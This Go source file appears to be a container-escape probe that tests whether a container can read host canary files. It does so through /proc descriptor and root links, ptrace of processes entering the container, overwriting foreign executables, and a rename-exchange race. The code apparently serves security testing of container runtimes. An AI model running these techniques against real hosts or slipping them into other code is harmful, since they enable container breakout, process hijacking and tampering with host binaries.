package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// Canary is how the content of the host's canary files begins.
const canary = "canary of the host"

func holdsCanary(path string) bool {
	b, err := os.ReadFile(path)
	return err == nil && strings.HasPrefix(string(b), canary)
}

// leak tries to read the host's file by every road out of a container.
func leak(host string, talk bool) {
	buf := make([]byte, 4096)
	n, err := unix.Getcwd(buf) // not os.Getwd, which believes $PWD
	cwd := strings.TrimRight(string(buf[:max(n, 0)]), "\x00")
	if talk {
		note("working directory %q %v", cwd, err)
	}
	if err != nil || !strings.HasPrefix(cwd, "/") { // the kernel says "(unreachable)" of a directory outside the root
		success("the working directory is outside the root: %q %v", cwd, err)
	}
	up := ""
	for range 12 {
		up += "../"
		if holdsCanary(up + host) {
			success("read %s", up+host)
		}
	}
	if holdsCanary(host) {
		success("read %s", host)
	}
	roads, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	more, _ := filepath.Glob("/proc/[0-9]*/cwd")
	roads = append(roads, more...)
	more, _ = filepath.Glob("/proc/[0-9]*/root")
	for _, road := range append(roads, more...) {
		for _, path := range []string{road + host, road + "/" + filepath.Base(host), road + "/../../../../../.." + host} {
			if holdsCanary(path) {
				success("read %s", path)
			}
		}
	}
}

// watch attacks processes that enter the container: between setns and execve they still hold the host's things.
func watch(host string) {
	seen := map[int]bool{os.Getpid(): true, 1: true}
	entered, readable := 0, 0
	for range untilStopped() {
		dirs, _ := os.ReadDir("/proc")
		for _, dir := range dirs {
			pid, err := strconv.Atoi(dir.Name())
			if err != nil || seen[pid] {
				continue
			}
			seen[pid] = true
			entered++
			for range 20 { // as long as it is what entered, not yet what it executes
				proc := fmt.Sprintf("/proc/%d", pid)
				fds, err := os.ReadDir(proc + "/fd")
				if err != nil {
					continue
				}
				readable++
				for _, fd := range fds {
					link, _ := os.Readlink(proc + "/fd/" + fd.Name())
					if n, _ := strconv.Atoi(fd.Name()); n > 2 && strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "/dev/") {
						note("descriptor %s/fd/%s is %s", proc, fd.Name(), link)
					}
					if holdsCanary(proc + "/fd/" + fd.Name() + host) {
						success("read %s through %s/fd/%s (%s)", host, proc, fd.Name(), link)
					}
				}
				for _, road := range []string{"/cwd", "/root"} {
					if holdsCanary(proc + road + host) {
						success("read %s through %s%s", host, proc, road)
					}
				}
				// A traced process is ours to steer. A program of the container itself may be traced; one that came
				// from outside says so by its executable.
				if exe, err := os.Readlink(proc + "/exe"); err == nil && !strings.HasPrefix(exe, "/bin/") {
					if unix.PtraceSeize(pid) == nil {
						success("traced %d, which runs %s", pid, exe)
						unix.PtraceDetach(pid)
					}
				}
			}
		}
	}
	note("%d processes entered, %d looks at their descriptors", entered, readable)
}

// overwrite opens the executables of processes that are not ours and writes to them once they can be written.
func overwrite() {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		success("cannot see my own program: %v", err)
		return
	}
	seen, held := 0, map[string]int{}
	for range untilStopped() {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range exes {
			name, err := os.Readlink(exe)
			if err != nil {
				continue
			}
			if info, err := os.Stat(exe); err != nil || os.SameFile(info, own) || strings.HasPrefix(name, "/bin/") {
				continue
			}
			seen++
			if _, ok := held[name]; !ok {
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[name] = fd
				}
			}
		}
		for name, fd := range held {
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
			if err == nil {
				success("opened %s for writing", name)
				w.WriteString("overwritten")
				w.Close()
			}
		}
	}
	note("%d foreign executables seen, %d held", seen, len(held))
}

func swap(dir string) {
	for {
		unix.Renameat2(unix.AT_FDCWD, dir+"/a", unix.AT_FDCWD, dir+"/b", unix.RENAME_EXCHANGE)
	}
}
